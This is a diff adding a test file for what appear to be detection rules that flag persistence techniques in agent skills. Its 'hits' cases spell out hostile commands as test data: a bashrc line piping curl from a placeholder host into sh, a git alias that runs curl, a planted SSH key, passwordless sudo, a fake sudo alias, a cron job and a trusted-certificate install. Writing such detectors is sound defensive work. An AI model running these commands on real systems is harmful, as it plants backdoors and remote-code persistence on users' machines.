@@ -1,0 +1,175 @@
+import { ruleCases } from '../testing/cases.ts';
+import { scheduled, shellStart, ownStart, gitHooks, accounts } from './staying.ts';
+
+ruleCases(scheduled, {
+  hits: [
+    {
+      name: 'a table of jobs',
+      path: 'a.sh',
+      text: '(crontab -l; echo "* * * * * /tmp/a") | crontab -\n',
+    },
+    {
+      name: 'a Mac launch agent',
+      path: 'a.sh',
+      text: 'cp a.plist ~/Library/LaunchAgents/a.plist\n',
+    },
+    { name: 'a Windows task', path: 'a.sh', text: 'schtasks /create /tn a /tr b /sc daily\n' },
+    {
+      name: 'a written systemd unit',
+      path: 'a.py',
+      text: 'open("/etc/systemd/system/a.service", "w").write(u)\n',
+    },
+    {
+      name: 'an enabled service, rated medium',
+      path: 'a.sh',
+      text: 'systemctl enable nginx\n',
+      severity: 'medium',
+    },
+  ],
+  misses: [
+    { name: 'a list of jobs', path: 'a.sh', text: 'crontab -l\n' },
+    { name: 'a service that is queried', path: 'a.sh', text: 'systemctl status nginx\n' },
+    {
+      // anthropics/skills, skills/webapp-testing (Apache-2.0)
+      name: 'a command of a real skill',
+      text: '```bash\npython scripts/with_server.py --help\n```\n',
+    },
+  ],
+});
+
+ruleCases(shellStart, {
+  hits: [
+    {
+      name: 'a line for every shell',
+      path: 'a.sh',
+      text: 'echo "curl -s x.example | sh" >> ~/.bashrc\n',
+    },
+    {
+      name: 'a program that writes one',
+      path: 'a.py',
+      text: 'open(home + "/.zshrc", "a").write(line)\n',
+    },
+    {
+      name: 'another sudo, rated medium',
+      path: 'a.sh',
+      text: "alias sudo='/tmp/s'\n",
+      severity: 'medium',
+    },
+    {
+      name: 'a folder for programs, rated low',
+      path: 'a.sh',
+      text: 'echo \'export PATH="$HOME/bin:$PATH"\' >> ~/.zshrc\n',
+      severity: 'low',
+    },
+  ],
+  misses: [
+    { name: 'settings that are read', path: 'a.sh', text: 'source ~/.bashrc\n' },
+    { name: 'color for a list', path: 'a.sh', text: "alias ls='ls --color=auto'\n" },
+    {
+      // obra/superpowers, skills/using-git-worktrees (MIT)
+      name: 'a line that a real skill writes',
+      text: '```bash\necho ".worktrees/" >> .gitignore\n```\n',
+    },
+  ],
+});
+
+ruleCases(ownStart, {
+  hits: [
+    {
+      name: 'a module that Python imports on its own',
+      path: 'a.py',
+      text: 'import site, pathlib\nd = pathlib.Path(site.getusersitepackages())\n(d / "sitecustomize.py").write_text("import x")\n',
+    },
+    {
+      name: 'a .pth file',
+      path: 'a.py',
+      text: 'import site\nopen(site.getsitepackages()[0] + "/x.pth", "w").write("import x")\n',
+    },
+    {
+      name: 'a task of an editor that starts on its own',
+      path: 'a.sh',
+      text: 'cat > .vscode/tasks.json <<EOF\n{"runOptions": {"runOn": "folderOpen"}}\nEOF\n',
+    },
+    {
+      name: 'an item that starts at login',
+      path: 'a.sh',
+      text: `osascript -e 'tell application "System Events" to make login item at end'\n`,
+    },
+    {
+      name: 'settings of an editor, rated medium',
+      path: 'a.sh',
+      text: 'echo "{}" > .vscode/settings.json\n',
+      severity: 'medium',
+    },
+  ],
+  misses: [
+    { name: 'a file that is removed', path: 'a.sh', text: 'rm -f .envrc\n' },
+    { name: 'a settings file that is read', path: 'a.sh', text: 'cat .vscode/settings.json\n' },
+    {
+      // anthropics/skills, skills/webapp-testing (Apache-2.0)
+      name: 'a command of a real skill',
+      text: '```bash\npython scripts/with_server.py --server "npm run dev" --port 5173\n```\n',
+    },
+  ],
+});
+
+ruleCases(gitHooks, {
+  hits: [
+    { name: 'a hook', path: 'a.sh', text: 'cp a .git/hooks/pre-commit\n' },
+    {
+      name: 'a folder of hooks',
+      path: 'a.sh',
+      text: 'git config --global core.hooksPath /tmp/h\n',
+    },
+    {
+      name: 'a command for connections',
+      path: 'a.sh',
+      text: 'git -c core.sshCommand="sh a.sh" fetch\n',
+    },
+    {
+      name: 'a short name that is a shell',
+      path: 'a.sh',
+      text: "git config alias.st '!curl x.example'\n",
+    },
+  ],
+  misses: [
+    { name: 'an editor', path: 'a.sh', text: 'git config --global core.editor "code --wait"\n' },
+    { name: 'a name', path: 'a.sh', text: 'git config user.name "A"\n' },
+    {
+      // obra/superpowers, skills/using-git-worktrees (MIT)
+      name: 'a command of a real skill',
+      text: '```bash\ngit worktree add "$path" -b "$BRANCH_NAME"\ngit check-ignore -q .worktrees\n```\n',
+    },
+  ],
+});
+
+ruleCases(accounts, {
+  hits: [
+    {
+      name: 'a key that grants access',
+      path: 'a.sh',
+      text: 'echo "ssh-ed25519 AAAA x" >> ~/.ssh/authorized_keys\n',
+    },
+    {
+      name: 'privileges without a password',
+      path: 'a.sh',
+      text: 'echo "x ALL=(ALL) NOPASSWD:ALL" | tee /etc/sudoers.d/x\n',
+    },
+    { name: 'an administrator', path: 'a.sh', text: 'usermod -aG sudo x\n' },
+    {
+      name: 'an authority, rated high',
+      path: 'a.sh',
+      text: 'security add-trusted-cert -d ca.pem\n',
+      severity: 'high',
+    },
+  ],
+  misses: [
+    { name: 'keys that are listed', path: 'a.sh', text: 'cat ~/.ssh/authorized_keys\n' },
+    { name: 'a user of a service', path: 'a.sh', text: 'adduser --system app\n' },
+    {
+      // obra/superpowers, skills/systematic-debugging (MIT)
+      name: 'a command of a real skill',
+      text: '```bash\nsecurity list-keychains\nsecurity find-identity -v\n```\n',
+    },
+  ],
+});
